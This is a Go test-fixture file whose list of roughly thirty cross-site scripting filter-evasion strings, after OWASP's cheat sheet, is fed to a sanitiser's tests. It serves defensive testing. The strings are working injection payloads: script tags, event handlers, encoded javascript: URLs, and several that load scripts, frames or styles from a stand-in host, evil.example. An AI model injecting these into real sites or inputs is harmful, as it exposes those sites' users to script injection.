// Package xsstest holds the cross-site scripting vectors that the
// sanitiser's and the pipeline's tests feed through.
package xsstest

// Vectors are the classic cross-site scripting filter evasions, after
// OWASP's XSS filter evasion cheat sheet.
var Vectors = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="javascript:alert(1)">`,
	`<IMG SRC=JaVaScRiPt:alert('XSS')>`,
	`<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href=" &#14;  javascript:alert(1)">x</a>`,
	`<a href="jav&#x09;ascript:alert(1)">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<svg onload=alert(1)><circle r=10></circle></svg>`,
	`<svg><script>alert(1)</script></svg>`,
	`<math><mi xlink:href="javascript:alert(1)">x</mi></math>`,
	`<body onload=alert(1)>`,
	`<iframe src="https://evil.example/"></iframe>`,
	`<object data="https://evil.example/x.swf"></object>`,
	`<embed src="https://evil.example/x.swf">`,
	`<div style="width: expression(alert(1))">x</div>`,
	`<div style="background:url(javascript:alert(1))">x</div>`,
	`<style>@import 'https://evil.example/x.css';</style>`,
	`<link rel=stylesheet href="https://evil.example/x.css">`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	`<base href="https://evil.example/">`,
	`<form action="javascript:alert(1)"><input type=submit></form>`,
	`<p onmouseover="alert(1)">hover</p>`,
	`<details open ontoggle=alert(1)>`,
	`<video><source onerror="alert(1)"></video>`,
	`"><script>alert(1)</script>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
}
